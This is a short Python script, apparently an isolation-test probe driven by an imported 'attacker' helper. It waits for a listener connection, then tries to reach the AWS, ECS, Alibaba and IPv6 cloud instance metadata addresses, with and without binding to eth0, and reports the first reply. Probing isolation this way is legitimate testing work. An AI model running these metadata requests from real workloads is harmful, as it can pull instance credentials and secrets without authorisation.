"""The address at which clouds tell a machine its secrets, with a service at it on the very same wire."""

import os
import socket
import time

from attacker import attempt, got_it

PLACES = [("169.254.169.254", 80), ("169.254.170.2", 80), ("100.100.100.200", 80), ("fd00:ec2::254", 80)]
ASK = b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n"


def ask(place, device):
    """What it says. Raises OSError."""
    family = socket.AF_INET6 if ":" in place[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as made:
        made.settimeout(0.3)
        if device:  # no route is needed then
            made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        made.connect(place)
        made.sendall(ASK)
        return made.recv(1000)


door = socket.create_server((os.environ["SYNDICATE_ADDRESS"], 5900))
door.settimeout(60)
beside, _ = door.accept()  # the service is there, and stays for as long as this is open
until = time.monotonic() + 1.6
while time.monotonic() < until:
    for place in PLACES:
        for device in (False, True):
            if said := attempt(f"{place} {device}", ask, place, device):
                got_it(f"{place} says {said!r}")
                os._exit(0)
